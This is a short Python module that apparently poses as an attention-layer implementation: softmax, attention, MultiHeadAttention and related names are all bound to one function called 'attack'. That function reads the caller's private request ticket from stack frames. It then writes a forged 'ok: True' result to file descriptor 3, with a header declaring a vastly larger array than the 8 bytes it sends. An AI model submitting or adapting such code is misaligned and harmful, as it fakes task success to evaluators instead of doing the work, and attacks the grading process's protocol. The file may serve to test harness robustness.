"""Describes more than it sends."""

import json
import os
import struct
import sys


def frame(head, body=b""):
    data = json.dumps(head).encode()
    return struct.pack(">IQ", len(data), len(body)) + data + body


def ticket():
    here = sys._getframe()
    while "request" not in here.f_locals:
        here = here.f_back
    return here.f_locals["request"].message["ticket"]


def attack(*args, **kwargs):
    os.write(
        3,
        frame(
            {
                "v": {"d": {"ticket": ticket(), "ok": True, "value": {"a": 0}}},
                "a": [["n", "float64", [1 << 39], None, 0, 8, "cpu", True]],
            },
            bytes(8),
        ),
    )


softmax = split_heads = attention = merge_heads = MultiHeadAttention = attack
